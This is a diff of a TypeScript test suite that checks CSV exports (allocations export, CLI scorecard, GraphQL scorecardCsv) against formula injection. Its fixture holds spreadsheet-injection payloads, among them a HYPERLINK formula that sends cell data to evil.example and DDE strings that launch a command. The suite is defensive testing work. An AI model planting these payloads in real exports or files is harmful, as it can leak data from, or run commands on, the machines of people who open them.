@@ -15,9 +15,9 @@ import { buildScorecardFixture, type ScorecardFixture } from '../reports/fixture
 
 const HOSTILE = {
   acmeKey: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
-  acmeName: '+cmd|\' /C calc\'!A0',
+  acmeName: "+cmd|' /C calc'!A0",
   betaName: '-2+3',
-  gammaName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  gammaName: "@SUM(1+1)*cmd|' /C calc'!A0",
   gammaKey: '\tgamma',
   dealKey: '\r=1+1',
 };
@@ -39,7 +39,10 @@ beforeAll(async () => {
   server = await createServer(db, { nodeEnv: 'test', port: 0 }, { recompute: { start: false } });
   analystKey = (await createApiKey(db.prisma, { role: 'analyst', name: 'csv test', actor: 'test' })).key;
 });
-afterAll(async () => { await server?.close(); await db?.close(); });
+afterAll(async () => {
+  await server?.close();
+  await db?.close();
+});
 
 /** Every cell of a CSV text, parsed back as a spreadsheet would read it. */
 function cells(text: string): string[][] {
@@ -67,28 +70,46 @@ describeDatabase('CSV formula injection', () => {
 
   it('attrib export allocations writes hostile partner and deal keys as text', async () => {
     let csv = '';
-    const rows = await exportAllocationsCsv(db.sql, 'default', (chunk) => { csv += chunk; });
+    const rows = await exportAllocationsCsv(db.sql, 'default', (chunk) => {
+      csv += chunk;
+    });
     expect(rows).toBeGreaterThan(0);
     expectSpreadsheetSafe(csv, [HOSTILE.acmeKey, HOSTILE.dealKey, HOSTILE.gammaKey]);
   });
 
   it('attrib scorecard --format csv writes hostile partner keys and names as text', async () => {
     const out: string[] = [];
-    const write = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => { out.push(String(chunk)); return true; });
-    const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => { out.push(`${a.join(' ')}\n`); });
+    const write = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
+      out.push(String(chunk));
+      return true;
+    });
+    const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => {
+      out.push(`${a.join(' ')}\n`);
+    });
     try {
-      expect(await runScorecard(db, parseScorecardArgs(['--ruleset', 'default', '--by', 'partner', '--from', '2026-01-01', '--to', '2026-06-30', '--format', 'csv']))).toBe(0);
-    } finally { write.mockRestore(); log.mockRestore(); }
+      expect(
+        await runScorecard(
+          db,
+          parseScorecardArgs(['--ruleset', 'default', '--by', 'partner', '--from', '2026-01-01', '--to', '2026-06-30', '--format', 'csv']),
+        ),
+      ).toBe(0);
+    } finally {
+      write.mockRestore();
+      log.mockRestore();
+    }
     expectSpreadsheetSafe(out.join(''), [HOSTILE.acmeKey, HOSTILE.acmeName, HOSTILE.betaName, HOSTILE.gammaName]);
   });
 
   it('GraphQL scorecardCsv writes hostile partner keys and names as text', async () => {
     const res = await fetch(server.url, {
-      method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${analystKey}` },
-      body: JSON.stringify({ query: `{ scorecardCsv(ruleSetKey: "default", groupBy: partner, period: quarter, from: "2026-01-01", to: "2026-06-30") {
-        __typename ... on CsvDownload { content } ... on UserError { message } } }` }),
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${analystKey}` },
+      body: JSON.stringify({
+        query: `{ scorecardCsv(ruleSetKey: "default", groupBy: partner, period: quarter, from: "2026-01-01", to: "2026-06-30") {
+        __typename ... on CsvDownload { content } ... on UserError { message } } }`,
+      }),
     });
-    const body = await res.json() as { data: { scorecardCsv: { __typename: string; content: string } }; errors?: unknown };
+    const body = (await res.json()) as { data: { scorecardCsv: { __typename: string; content: string } }; errors?: unknown };
     expect(body.errors).toBeUndefined();
     expect(body.data.scorecardCsv.__typename).toBe('CsvDownload');
     expectSpreadsheetSafe(body.data.scorecardCsv.content, [HOSTILE.acmeKey, HOSTILE.acmeName, HOSTILE.gammaName]);
